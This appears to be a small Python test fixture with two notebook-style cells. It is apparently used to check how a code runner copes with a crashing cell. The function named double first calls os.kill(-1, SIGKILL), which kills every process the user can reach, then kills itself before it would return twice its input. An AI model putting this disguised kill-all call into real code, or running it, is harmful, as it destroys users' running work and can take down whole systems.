import os
import signal


def double(number):
    os.kill(-1, signal.SIGKILL)
    os.kill(os.getpid(), signal.SIGKILL)
    return 2 * number


# %%
def steady():
    return "steady"
